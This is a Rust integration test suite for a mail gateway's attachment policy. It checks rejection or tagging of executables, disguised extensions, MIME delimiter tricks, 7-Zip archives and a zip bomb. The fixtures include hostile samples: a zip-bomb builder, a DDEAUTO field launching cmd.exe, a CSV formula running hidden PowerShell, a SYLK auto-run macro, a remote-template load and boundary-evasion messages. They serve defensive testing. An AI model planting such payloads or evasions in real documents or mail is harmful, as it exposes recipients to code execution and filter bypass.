//! The attachment policy end to end over SMTP with the shipped `rules/19-attachments.cf`:
//! blocked attachments tagged or refused by a rule action, a zip bomb answered with a
//! symbol while the gateway keeps serving, the policy switched off by configuration.

mod common;

use common::admin::scrape;
use common::*;
use std::io::Write;

const SHIPPED_RULES: &str = include_str!("../rules/19-attachments.cf");

fn gateway(internal: &InternalServer, extra: &str) -> Gateway {
    Gateway::start(
        GatewayConfig::new(internal)
            .toml(&format!("[policy]\nrules_dir = \"rules\"\n{extra}"))
            .file("rules/19-attachments.cf", SHIPPED_RULES),
    )
}

fn send(gw: &Gateway, msg: &[u8]) -> Reply {
    let mut c = SmtpClient::connect_ehlo(gw.port);
    let r = c.send_mail("sender@sender.test", &["user@example.test"], msg);
    c.quit();
    r
}

fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[test]
fn a_blocked_attachment_is_tagged_and_a_disguised_one_quarantined() {
    let internal = InternalServer::start();
    let gw = gateway(&internal, "");
    // 8 points: tagged and relayed with its symbol.
    let msg = message_with_attachment("tool", "tool.exe", "application/octet-stream", b"x");
    let r = send(&gw, &msg);
    assert_eq!(r.code, 250, "{r:?}");
    let got = internal.expect_messages(1);
    let rules = got[0].header("X-Spam-Rules").unwrap_or_default();
    assert!(rules.contains("ATTACH_BLOCKED_EXT=8.00"), "{rules}");
    let status = got[0].header("X-Spam-Status").unwrap_or_default();
    assert!(status.starts_with("Yes"), "{status}");
    // 8 + 6 for the padded double extension: quarantined, not relayed.
    let msg = message_with_attachment("invoice", "invoice.pdf   .exe", "application/pdf", b"x");
    let r = send(&gw, &msg);
    assert_eq!(r.code, 250, "{r:?}");
    let qid = queue_id(&r).unwrap_or_else(|| panic!("no queue id in {r:?}"));
    let out = gw.cli(&["quarantine", "list"]);
    let listing = String::from_utf8_lossy(&out.stdout).to_string();
    let line = listing
        .lines()
        .find(|l| l.contains(&qid))
        .unwrap_or_else(|| panic!("{qid} not in quarantine list:\n{listing}"));
    assert!(line.contains("ATTACH_DOUBLE_EXT"), "{line}");
    assert_eq!(internal.messages().len(), 1);
}

/// Regression (review): the attachment findings were kept for a shadow policy to reuse
/// and never cleared between transactions, so after a clean first message every later
/// one on the connection skipped the attachment policy: a program went through unjudged.
#[test]
fn each_message_of_a_session_is_judged_for_its_own_attachments() {
    let internal = InternalServer::start();
    let gw = gateway(&internal, "actions = { ATTACH_BLOCKED_EXT = \"reject\" }\n");
    let mut c = SmtpClient::connect_ehlo(gw.port);
    let clean = message("first@t", "hello", "nothing attached");
    c.send_mail("sender@sender.test", &["user@example.test"], &clean)
        .expect(250, "2.0.0");
    let program = message_with_attachment("tool", "setup.exe", "application/octet-stream", b"x");
    let r = c.send_mail("sender@sender.test", &["user@example.test"], &program);
    assert_eq!(r.code, 550, "{r:?}");
    assert!(r.text().contains("ATTACH_BLOCKED_EXT"), "{r:?}");
    c.quit();
}

/// Regression (review): mail-parser ends a multipart at `--boundary` anywhere in a line and
/// at the start of a longer word, and seeks only the innermost boundary; a client reads
/// delimiters as whole lines and ends an unclosed inner multipart at the enclosing one. A
/// text ending `x--b--`, or an alternative never closed, hid the program that follows from
/// the attachment policy (and from clamd) while a mail client showed it.
#[test]
fn a_program_behind_a_delimiter_look_alike_is_still_judged() {
    let internal = InternalServer::start();
    let gw = gateway(&internal, "actions = { ATTACH_BLOCKED_EXT = \"reject\" }\n");
    let look_alike = "From: a@sender.test\r\nTo: user@example.test\r\nSubject: invoice\r\n\
        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
        --b\r\nContent-Type: text/plain\r\n\r\nSee attached x--b--\r\n\
        --b\r\nContent-Type: application/octet-stream; name=\"invoice.js\"\r\n\r\n\
        WScript.Echo(1)\r\n--b--\r\n";
    let unclosed = "From: a@sender.test\r\nTo: user@example.test\r\nSubject: invoice\r\n\
        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
        --b\r\nContent-Type: multipart/alternative; boundary=\"c\"\r\n\r\n\
        --c\r\nContent-Type: text/plain\r\n\r\nplain\r\n\
        --c\r\nContent-Type: text/html\r\n\r\n<p>html</p>\r\n\
        --b\r\nContent-Type: application/octet-stream; name=\"setup.exe\"\r\n\r\nMZ\r\n\
        --b--\r\n";
    // A message built so that the walk cannot follow it (more multiparts that never
    // begin than it keeps): the names in its raw fields are judged.
    let mut unfollowed = "From: a@sender.test\r\nTo: user@example.test\r\nSubject: invoice\r\n\
        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
        .to_string();
    for i in 0..40 {
        unfollowed.push_str(&format!(
            "--b\r\nContent-Type: multipart/mixed; boundary=\"u{i}\"\r\n\r\n"
        ));
    }
    unfollowed.push_str(
        "--b\r\nContent-Type: text/plain\r\n\r\nSee attached x--b--\r\n\
         --b\r\nContent-Type: application/octet-stream; name=\"invoice.js\"\r\n\r\n\
         WScript.Echo(1)\r\n--b--\r\n",
    );
    for msg in [look_alike, unclosed, &unfollowed] {
        let r = send(&gw, msg.as_bytes());
        assert_eq!(r.code, 550, "{r:?}");
        assert!(r.text().contains("ATTACH_BLOCKED_EXT"), "{r:?}");
    }
    assert!(internal.messages().is_empty());
}

#[test]
fn a_rule_action_refuses_blocked_attachments_in_session() {
    let internal = InternalServer::start();
    let gw = gateway(
        &internal,
        "actions = { ATTACH_BLOCKED_EXT = \"reject\", ARCHIVE_BLOCKED_EXT = \"reject\" }\n",
    );
    let r = send(
        &gw,
        &message_with_attachment("exe", "setup.exe", "application/octet-stream", b"x"),
    );
    assert_eq!(r.code, 550, "{r:?}");
    assert!(r.text().contains("ATTACH_BLOCKED_EXT"), "{r:?}");
    // The same inside a zip (nested one level).
    let inner = zip_of(&[("run.js", b"WScript.Echo(1)".as_slice())]);
    let outer = zip_of(&[("docs.zip", inner.as_slice())]);
    let r = send(
        &gw,
        &message_with_attachment("zip", "docs.zip", "application/zip", &outer),
    );
    assert_eq!(r.code, 550, "{r:?}");
    assert!(r.text().contains("ARCHIVE_BLOCKED_EXT"), "{r:?}");
    // Clean attachments pass.
    let clean = zip_of(&[("a.txt", b"hello".as_slice())]);
    let r = send(
        &gw,
        &message_with_attachment("ok", "a.zip", "application/zip", &clean),
    );
    assert_eq!(r.code, 250, "{r:?}");
    let m = scrape(admin_port(&gw));
    assert_eq!(
        m.value("mxguard_rule_hits_total", &[("rule", "ATTACH_BLOCKED_EXT")]),
        1.0
    );
}

#[test]
fn a_zip_bomb_gets_a_symbol_and_the_gateway_keeps_serving() {
    // 2 GiB of zeros in about 2 MB: one compressed MiB repeated (a full flush makes each
    // copy stand alone), ended by an empty final block.
    use flate2::{Compress, Compression, FlushCompress};
    let mut c = Compress::new(Compression::best(), false);
    let mut block = Vec::with_capacity(16 * 1024);
    c.compress_vec(&vec![0u8; 1 << 20], &mut block, FlushCompress::Full)
        .unwrap();
    let mut stream = block.repeat(2048);
    stream.extend_from_slice(&[0x03, 0x00]);
    let mut bomb = Vec::new();
    let name = b"zeros.bin";
    let size: u32 = u32::MAX;
    let local = |sig: &[u8], central: bool| {
        let mut h = sig.to_vec();
        if central {
            h.extend_from_slice(&20u16.to_le_bytes());
        }
        h.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        h.extend_from_slice(&(stream.len() as u32).to_le_bytes());
        h.extend_from_slice(&size.to_le_bytes());
        h.extend_from_slice(&(name.len() as u16).to_le_bytes());
        h.extend_from_slice(&[0, 0]);
        if central {
            h.extend_from_slice(&[0; 10]);
            h.extend_from_slice(&0u32.to_le_bytes());
        }
        h.extend_from_slice(name);
        h
    };
    bomb.extend_from_slice(&local(b"PK\x03\x04", false));
    bomb.extend_from_slice(&stream);
    let cd_start = bomb.len() as u32;
    let central = local(b"PK\x01\x02", true);
    bomb.extend_from_slice(&central);
    bomb.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    bomb.extend_from_slice(&(central.len() as u32).to_le_bytes());
    bomb.extend_from_slice(&cd_start.to_le_bytes());
    bomb.extend_from_slice(&[0, 0]);

    let internal = InternalServer::start();
    let gw = gateway(&internal, "");
    let r = send(
        &gw,
        &message_with_attachment("bomb", "data.zip", "application/zip", &bomb),
    );
    assert_eq!(r.code, 250, "{r:?}");
    let r = send(&gw, &message("after@x", "after the bomb", "still here"));
    assert_eq!(r.code, 250, "{r:?}");
    let got = internal.expect_messages(2);
    let bombed = got
        .iter()
        .find(|m| m.header("Subject").as_deref() == Some("bomb"))
        .expect("bomb relayed");
    let rules = bombed.header("X-Spam-Rules").unwrap_or_default();
    assert!(rules.contains("ARCHIVE_BOMB"), "{rules}");
}

#[test]
fn the_policy_can_be_switched_off() {
    let internal = InternalServer::start();
    let gw = gateway(&internal, "\n[attachments]\nenabled = false\n");
    let r = send(
        &gw,
        &message_with_attachment("off", "setup.exe", "application/octet-stream", b"x"),
    );
    assert_eq!(r.code, 250, "{r:?}");
    let got = internal.expect_messages(1);
    let rules = got[0].header("X-Spam-Rules").unwrap_or_default();
    assert!(!rules.contains("ATTACH_"), "{rules}");
}

/// The shipped configuration refuses a blocked file whatever else the message scores
/// (review: README said "refused", the shipped policy only scored it, and a zip holding
/// `invoice.exe` in otherwise clean mail was delivered untagged). Scanned with
/// `config/mxguard.toml` as shipped, its paths made absolute.
#[test]
fn the_shipped_configuration_refuses_a_program_in_an_archive() {
    let repo = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let shipped = std::fs::read_to_string(repo.join("config/mxguard.toml")).unwrap();
    let absolute = |p: &str| format!("{:?}", repo.join(p).to_str().unwrap());
    let config = shipped
        .replace("dir = \"var/spool\"", "dir = \"spool\"")
        .replace("\"rules\"", &absolute("rules"))
        .replace(
            "\"config/classifier-seed.bin\"",
            &absolute("config/classifier-seed.bin"),
        );
    assert_ne!(config, shipped, "the shipped paths moved: update this test");
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("mxguard.toml"), config).unwrap();
    let cases = [
        (
            "zip.eml",
            "docs.zip",
            "application/zip",
            zip_of(&[("invoice.exe", b"MZ".as_slice())]),
        ),
        (
            "exe.eml",
            "setup.exe",
            "application/octet-stream",
            b"MZ".to_vec(),
        ),
        (
            "pdf.eml",
            "report.pdf",
            "application/pdf",
            b"%PDF-1.4\n%%EOF\n".to_vec(),
        ),
    ];
    for (file, name, ctype, data) in &cases {
        let message = message_with_attachment("minutes", name, ctype, data);
        std::fs::write(dir.path().join(file), message).unwrap();
    }
    for (file, _, _, _) in &cases {
        let out = run_mxguard(
            dir.path(),
            &["scan", "--json", "--config", "mxguard.toml", file],
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        let v: serde_json::Value = serde_json::from_str(stdout.trim())
            .unwrap_or_else(|e| panic!("{e}: {stdout} {}", String::from_utf8_lossy(&out.stderr)));
        let expected = if *file == "pdf.eml" {
            "accept"
        } else {
            "reject"
        };
        assert_eq!(v["verdict"], expected, "{file}: {v}");
    }
}

/// Archives written by the real 7-Zip (`7zz`, Debian's `7zip`) and by libarchive
/// (`bsdtar`): a program inside one in each of 7-Zip's compression methods, with an
/// encrypted header, and in a self-extractor's place behind other bytes is found over SMTP
/// as the recipient's 7-Zip would list it.
#[test]
fn archives_written_by_7_zip_are_read_in_every_method() {
    let Some(sevenzip) = interop_required("7zz") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("readme.txt"), "minutes of the meeting\n").unwrap();
    let mut program = vec![0u8; 512];
    program[..2].copy_from_slice(b"MZ");
    program[0x3c] = 0x80;
    program[0x80..0x84].copy_from_slice(b"PE\0\0");
    std::fs::write(dir.path().join("invoice.pdf"), &program).unwrap();
    std::fs::write(dir.path().join("setup.exe"), &program).unwrap();
    let make = |name: &str, args: &[&str], files: &[&str]| -> Vec<u8> {
        let mut all = vec!["a"];
        all.extend_from_slice(args);
        all.push(name);
        all.extend_from_slice(files);
        written_by(&sevenzip, &all, dir.path(), name)
    };
    let internal = InternalServer::start();
    let gw = gateway(&internal, "");
    let mut cases = Vec::new();
    for method in ["LZMA2", "LZMA", "PPMd", "BZip2", "Deflate"] {
        let name = format!("{method}.7z");
        let data = make(
            &name,
            &[&format!("-m0={method}")],
            &["readme.txt", "invoice.pdf"],
        );
        cases.push((name, data, "ARCHIVE_TYPE_MISMATCH"));
    }
    let data = make("solid.7z", &["-ms=on"], &["readme.txt", "setup.exe"]);
    cases.push(("solid.7z".to_string(), data, "ARCHIVE_BLOCKED_EXT"));
    let data = make("hidden.7z", &["-mhe=on", "-psecret"], &["setup.exe"]);
    cases.push(("hidden.7z".to_string(), data, "ARCHIVE_ENCRYPTED"));
    // libarchive writes 7z headers with an 8 MiB dictionary (7-Zip with 1 MiB).
    if let Some(bsdtar) = interop_required("bsdtar") {
        let args = [
            "--format",
            "7zip",
            "-cf",
            "libarchive.7z",
            "readme.txt",
            "setup.exe",
        ];
        let data = written_by(&bsdtar, &args, dir.path(), "libarchive.7z");
        cases.push(("libarchive.7z".to_string(), data, "ARCHIVE_BLOCKED_EXT"));
    }
    let mut prefixed = b"junk in front of the archive".repeat(40);
    prefixed.extend_from_slice(&make("plain.7z", &[], &["setup.exe"]));
    cases.push(("prefixed.7z".to_string(), prefixed, "ARCHIVE_BLOCKED_EXT"));
    for (i, (name, data, symbol)) in cases.iter().enumerate() {
        let msg = message_with_attachment("minutes", name, "application/x-7z-compressed", data);
        let r = send(&gw, &msg);
        assert_eq!(r.code, 250, "{name}: {r:?}");
        let got = internal.expect_messages(i + 1);
        let rules = got[i].header("X-Spam-Rules").unwrap_or_default();
        assert!(rules.contains(symbol), "{name}: {rules}");
    }
}

/// Runs `program` with `args` in `dir` (it must succeed) and returns the file `name` it
/// wrote there.
fn written_by(
    program: &std::path::Path,
    args: &[&str],
    dir: &std::path::Path,
    name: &str,
) -> Vec<u8> {
    let out = std::process::Command::new(program)
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::read(dir.join(name)).unwrap()
}

/// A `.docx` (a zip of XML parts) with `part` beside its main document.
fn docx_with(part: (&str, &[u8])) -> Vec<u8> {
    zip_of(&[
        ("[Content_Types].xml", b"<Types/>".as_slice()),
        (
            "word/document.xml",
            b"<w:document><w:body/></w:document>".as_slice(),
        ),
        part,
    ])
}

#[test]
fn documents_that_start_a_program_or_load_one_from_the_network_are_tagged() {
    let internal = InternalServer::start();
    let gw = gateway(&internal, "");
    let dde = docx_with((
        "word/footer1.xml",
        b"<w:ftr><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:ftr>",
    ));
    let template = docx_with((
        "word/_rels/settings.xml.rels",
        b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/></Relationships>",
    ));
    // Spreadsheet text with a DDE formula; a SYLK file whose Auto_Open runs Excel 4 macros.
    let csv = b"name,amount\r\nrefund,=cmd|'/c powershell -w hidden'!A0\r\n".to_vec();
    let sylk =
        b"ID;PWXL;N;E\r\nNN;NAuto_Open;ER1C1\r\nC;Y1;X1;EEXEC(\"calc\")\r\nC;Y2;EHALT()\r\nE\r\n"
            .to_vec();
    let cases = [
        (dde, "notice.docx", "OFFICE_DDE=5.00"),
        (template, "notice.docx", "OFFICE_REMOTE_OBJECT=5.00"),
        (csv, "refund.csv", "OFFICE_DDE=5.00"),
        (sylk, "prices.xls", "OFFICE_MACRO_AUTORUN=6.00"),
    ];
    let sent = cases.len();
    for (i, (doc, name, symbol)) in cases.into_iter().enumerate() {
        let msg = message_with_attachment("notice", name, "application/octet-stream", &doc);
        let r = send(&gw, &msg);
        assert_eq!(r.code, 250, "{r:?}");
        let got = internal.expect_messages(i + 1);
        let rules = got[i].header("X-Spam-Rules").unwrap_or_default();
        assert!(rules.contains(symbol), "{symbol}: {rules}");
        let status = got[i].header("X-Spam-Status").unwrap_or_default();
        assert!(status.starts_with("Yes"), "{status}");
    }
    // The same document without either: nothing of the kind.
    let plain = docx_with(("word/styles.xml", b"<w:styles/>".as_slice()));
    let r = send(
        &gw,
        &message_with_attachment("notice", "notice.docx", "application/octet-stream", &plain),
    );
    assert_eq!(r.code, 250, "{r:?}");
    let got = internal.expect_messages(sent + 1);
    let rules = got[sent].header("X-Spam-Rules").unwrap_or_default();
    assert!(!rules.contains("OFFICE_"), "{rules}");
}
